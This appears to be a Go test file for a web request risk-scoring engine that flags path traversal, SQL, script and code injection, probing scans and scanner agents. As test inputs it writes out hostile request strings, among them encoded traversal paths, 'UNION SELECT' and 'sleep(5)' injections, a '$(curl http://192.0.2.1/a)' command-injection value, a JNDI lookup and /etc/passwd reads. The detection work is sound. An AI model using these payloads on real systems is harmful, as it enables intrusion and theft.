package risk_test

import (
	"fmt"
	"math"
	"strings"
	"testing"
	"time"

	"github.com/kelisim/kelisim/geo"
	"github.com/kelisim/kelisim/risk"
)

// TestS3_6_3_EachSignalIsRaised has a row for what a single request tells.
func TestS3_6_3_EachSignalIsRaised(t *testing.T) {
	t.Parallel()
	for _, row := range []struct {
		step
		code risk.Code
		want risk.Action
	}{
		{step{target: "/files/../../../secret"}, "traversal", risk.ActionChallenge},
		{step{target: "/files/%2e%2e/%2E%2e/secret"}, "traversal", risk.ActionChallenge},
		{step{target: `/files/..\..\secret`}, "traversal", risk.ActionChallenge},
		{step{target: "/files/../secret"}, "", risk.ActionAllow}, // a clumsy link
		{step{target: "/files/%252e%252e/secret"}, "name_confusion", risk.ActionThrottle},
		{step{target: "/files/%%32%65%%32%65/secret"}, "name_confusion", risk.ActionThrottle},
		{step{target: "/go?to=https%253A%252F%252Fexample.org%252F"}, "", risk.ActionAllow},
		{step{target: "/a/;/b"}, "name_confusion", risk.ActionThrottle},
		{step{target: "/x?q=1+UNION+SELECT+2"}, "sql_injection", risk.ActionThrottle},
		{step{target: "/x?q=1/**/UNION/*a*/SELECT/**/2"}, "sql_injection", risk.ActionThrottle},
		{step{target: "/x?q=1%27%20and%20sleep(5)"}, "sql_injection", risk.ActionThrottle},
		{step{target: "/x?q=union+square"}, "", risk.ActionAllow},
		{step{target: "/x?q=%3CSCRIPT%3E"}, "script_injection", risk.ActionThrottle},
		{step{target: "/x?q=a%3Cb"}, "", risk.ActionAllow},
		{step{target: "/x?q=$(curl%20http://192.0.2.1/a)"}, "code_injection", risk.ActionChallenge},
		{step{target: "/x?q=%24%7Bjndi:ldap:%7D"}, "code_injection", risk.ActionChallenge},
		{step{target: "/x?name={{name}}"}, "", risk.ActionAllow}, // a mail whose template was not filled in
		{step{target: "/etc/passwd"}, "system_file", risk.ActionThrottle},
		{step{proto: "HTTP/1.7"}, "http_version", risk.ActionThrottle},
		{step{proto: "HTTP/2.0"}, "", risk.ActionAllow},
		{step{agent: curl}, "agent_tool", risk.ActionLog},
		{step{agent: "none"}, "agent_none", risk.ActionAllow},
		{step{agent: "Mozilla/5.0 (Moon)"}, "agent_unknown", risk.ActionAllow},
		{step{agent: strings.Replace(chrome, "146", "60", 1)}, "agent_old", risk.ActionLog},
		{step{agent: strings.Replace(chrome, "146", "125", 1)}, "", risk.ActionAllow},
		{step{agent: "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0"}, "agent_old", risk.ActionLog},
		{step{target: "/shop.aspx", status: 404}, "script_missing", risk.ActionLog},
		{step{target: "/shop.aspx", status: 200}, "", risk.ActionAllow},
		{step{target: "/.env", status: 404}, "secret_missing", risk.ActionLog},
		{step{target: "/.well-known/security.txt", status: 404}, "", risk.ActionAllow},
		{step{target: "/backup.sql", status: 404}, "secret_missing", risk.ActionLog},
		{step{target: "/backup.sql", status: 200}, "", risk.ActionAllow},
		{step{target: "/phpMyAdmin-4/", status: 404}, "admin_missing", risk.ActionLog},
		{step{target: "/a", method: "PUT", status: 404}, "write_missing", risk.ActionLog},
		{step{target: "/x-QwErTyUiOpAsDfGhJkL9", status: 404, agent: curl}, "random_missing", risk.ActionThrottle},
		{step{target: "/0123456789abcdef0123456789abcdef", status: 404, agent: curl}, "agent_tool", risk.ActionLog},
		{step{target: "/nothing", status: 404}, "", risk.ActionAllow},
		{step{target: "/picture.png", status: 404}, "", risk.ActionAllow},
	} {
		v := do(engine(t), row.step)
		if row.code != "" && !has(v, row.code) || row.code == "" && len(v.Reasons) > 0 || v.Action != row.want {
			t.Errorf("%+v: %v %v, want %v %q", row.step, v.Action, codesOf(v), row.want, row.code)
		}
	}
}

// TestBucketsHaveTheirThresholds: the last within is let through, the next is not, and once it has leaked there is room again.
func TestBucketsHaveTheirThresholds(t *testing.T) {
	t.Parallel()
	for _, row := range []struct {
		code risk.Code
		nth  func(i int) step
		most int
	}{
		{"probe_scan", func(i int) step { return step{target: fmt.Sprintf("/page-%d", i), status: 404} }, 10},
		{"secret_scan", func(i int) step { return step{target: fmt.Sprintf("/%d.bak", i), status: 404} }, 4},
		{"admin_scan", func(i int) step { return step{target: fmt.Sprintf("/admin%d/", i), status: 404} }, 2},
		{"login_failed", func(int) step { return step{target: "/login", method: "POST", status: 401} }, 5},
		{"enumeration", func(i int) step { return step{target: fmt.Sprintf("/?user=%d", i), status: 404} }, 3},
		{"crawl_rate", func(i int) step { return step{target: fmt.Sprintf("/page-%d", i)} }, 40},
		{"agent_switch", func(i int) step { return step{agent: fmt.Sprintf("%s Edition/%d", chrome, i)} }, 10},
		{"scanner", func(int) step { return step{agent: "Mozilla/5.0 (Nikto/2.5.0)"} }, 1},
	} {
		e := engine(t)
		var v risk.Verdict
		for i := range row.most {
			if v = do(e, row.nth(i)); has(v, row.code) {
				t.Errorf("%s: raised by the %dth, want none of %d", row.code, i+1, row.most)
			}
		}
		again := row.nth(0)
		again.after = time.Millisecond
		if distinct := row.nth(0) != row.nth(1); distinct && row.code != "crawl_rate" && has(do(e, again), row.code) {
			t.Errorf("%s: the same thing counts twice", row.code)
		}
		if v = do(e, row.nth(row.most)); !has(v, row.code) {
			t.Errorf("%s: not raised by the %dth: %v", row.code, row.most+1, codesOf(v))
		}
		slow := engine(t)
		for i := range 3 * row.most {
			s := row.nth(i)
			s.after = time.Duration(i) * 61 * time.Second
			if v = do(slow, s); has(v, row.code) {
				t.Errorf("%s: raised by one a minute", row.code)
				break
			}
		}
	}
}

// TestNoWeakSignalActsAlone: whatever weak signal is raised by itself, nobody is stopped.
func TestNoWeakSignalActsAlone(t *testing.T) {
	t.Parallel()
	weight := map[risk.Code]risk.Signal{}
	for _, s := range risk.Signals() {
		weight[s.Code] = s
		if !s.Strong && s.Weight >= 50 {
			t.Errorf("%s is weak and weighs %d: alone it would act", s.Code, s.Weight)
		}
		if s.Strong && s.Weight < 50 {
			t.Errorf("%s is strong and weighs %d", s.Code, s.Weight)
		}
		if s.Basis != risk.BasisAutomatic && s.Basis != risk.BasisConsent || s.Clause == "" || s.Stored == "" || s.Means == "" {
			t.Errorf("%s: incomplete: %+v", s.Code, s)
		}
		if (s.TTL > 0) != (s.Stored != "nothing") {
			t.Errorf("%s holds %v and keeps %s", s.Code, s.TTL, s.Stored)
		}
	}
	for _, s := range []step{
		{agent: curl}, {agent: "none"}, {agent: "Mozilla/5.0 (Moon)"}, {agent: strings.Replace(chrome, "146", "60", 1)}, {target: "/a.php", status: 404},
		{target: "/.git/", status: 404}, {target: "/admin", status: 404}, {method: "DELETE", status: 404, target: "/a"},
	} {
		if v := do(engine(t), s); v.Action > risk.ActionLog || len(v.Reasons) != 1 {
			t.Errorf("%+v: %v %v", s, v.Action, codesOf(v))
		}
	}
}

// TestS1_4_1_4_CountryProviderAndNetworkAreNoReason: from wherever it comes, an ordinary request is allowed, and the network
// of one that is not adds no more than the difference between two actions.
func TestS1_4_1_4_CountryProviderAndNetworkAreNoReason(t *testing.T) {
	t.Parallel()
	e := engine(t, func(o *risk.Options) { o.GeoBuilt = func() time.Time { return noon }; o.Capacity = 1 << 14 })
	from := bob
	for country := range geo.Countries() {
		for net := geo.NetUnknown; net <= geo.NetBot; net++ {
			from = from.Next()
			v := do(e, step{from: from, place: geo.Location{Country: country, Net: net, ASN: 64496, Provider: "Example"}})
			if v.Action != risk.ActionAllow || len(v.Reasons) > 0 || v.Network > 0 || v.Country != country {
				t.Fatalf("%s, %v: %+v", country, net, v)
			}
		}
	}
	attack := step{target: "/etc/passwd", from: alice, place: geo.Location{Net: geo.NetTor}}
	if v := do(e, attack); !has(v, "net_tor") || v.Action != risk.ActionChallenge {
		t.Errorf("an attack by Tor: %v %v, want it to weigh", v.Action, codesOf(v))
	}
	stale := engine(t, func(o *risk.Options) { o.GeoBuilt = func() time.Time { return noon.AddDate(-2, 0, 0) } })
	if v := do(stale, attack); has(v, "net_tor") || v.Action != risk.ActionThrottle {
		t.Errorf("an attack by Tor, by data of two years ago: %v %v, want it not to weigh", v.Action, codesOf(v))
	}
}

// Old data weighs less, and worn data nothing; a location's own date goes before that of all data.
func TestNetworksWeighByTheAgeOfTheData(t *testing.T) {
	t.Parallel()
	days := func(n int) time.Time { return noon.AddDate(0, 0, -n) }
	for _, row := range []struct {
		why        string
		all, place time.Time
		want       float64
	}{
		{"new", days(1), time.Time{}, 1},
		{"half way", days(450), time.Time{}, 0.625},
		{"worn", days(721), time.Time{}, 0},
		{"the place's own date", days(721), days(2), 1},
		{"the place's own date, worn", days(1), days(800), 0},
	} {
		e := engine(t, func(o *risk.Options) { o.GeoBuilt = func() time.Time { return row.all } })
		v := do(e, step{target: "/etc/passwd", from: alice, place: geo.Location{Net: geo.NetTor, Built: geo.DateOf(row.place)}})
		got, full := 0.0, 0.0
		for _, s := range risk.Signals() {
			if s.Code == "net_tor" {
				full = float64(s.Weight)
			}
		}
		for _, r := range v.Reasons {
			if r.Code == "net_tor" {
				got = float64(r.Weight)
			}
		}
		if want := math.Floor(full*row.want + 0.5); got != want || full == 0 {
			t.Errorf("%s: Tor weighs %v, want %v", row.why, got, want)
		}
	}
}

// TestCarriersShareAddresses: phones behind one address have four times the room.
func TestCarriersShareAddresses(t *testing.T) {
	t.Parallel()
	e := engine(t)
	for i := range 160 {
		if v := do(e, step{target: fmt.Sprintf("/page-%d", i), place: geo.Location{Net: geo.NetMobile}}); v.Action != risk.ActionAllow {
			t.Fatalf("the %dth: %v %v", i, v.Action, codesOf(v))
		}
	}
	if v := do(e, step{place: geo.Location{Net: geo.NetMobile}}); !has(v, "crawl_rate") {
		t.Error("there is no end to it")
	}
}

// TestTheSiteTeachesWhatItRuns: a dead link to a program of a kind that works elsewhere on the site is nothing.
func TestTheSiteTeachesWhatItRuns(t *testing.T) {
	t.Parallel()
	e := engine(t)
	do(e, step{target: "/shop/cart.php"})
	if v := do(e, step{target: "/old.php", status: 404}); len(v.Reasons) > 0 {
		t.Errorf("a dead link: %v", codesOf(v))
	}
	if v := do(e, step{target: "/old.jsp", status: 404}); !has(v, "script_missing") {
		t.Errorf("a program that nobody runs: %v", codesOf(v))
	}
}

// TestNeighboursWeigh: from the third attacker of a network on, evidence weighs more; without any, a neighbour is nobody's concern.
func TestNeighboursWeigh(t *testing.T) {
	t.Parallel()
	e := engine(t)
	from := alice
	for range 2 {
		from = from.Next()
		if v := do(e, step{from: from, target: "/etc/passwd"}); has(v, "neighbours") {
			t.Errorf("%v has neighbours: %v", from, codesOf(v))
		}
	}
	if v := do(e, step{from: alice, target: "/etc/passwd"}); !has(v, "neighbours") {
		t.Errorf("the third: %v", codesOf(v))
	}
	if v := do(e, step{from: from.Next()}); v.Action != risk.ActionAllow || len(v.Reasons) > 0 {
		t.Errorf("a bystander: %v %v", v.Action, codesOf(v))
	}
	if v := do(e, step{from: bob, target: "/etc/passwd"}); has(v, "neighbours") {
		t.Error("of another network")
	}
}

// TestMissingPicturesAreNoScan: a page whose pictures are gone is nobody's attack.
func TestMissingPicturesAreNoScan(t *testing.T) {
	t.Parallel()
	e := engine(t)
	for i := range 30 {
		if v := do(e, step{target: fmt.Sprintf("/photos/%d.jpg", i), status: 404}); v.Action != risk.ActionAllow || len(v.Reasons) > 0 {
			t.Fatalf("the %dth: %v %v", i, v.Action, codesOf(v))
		}
	}
}
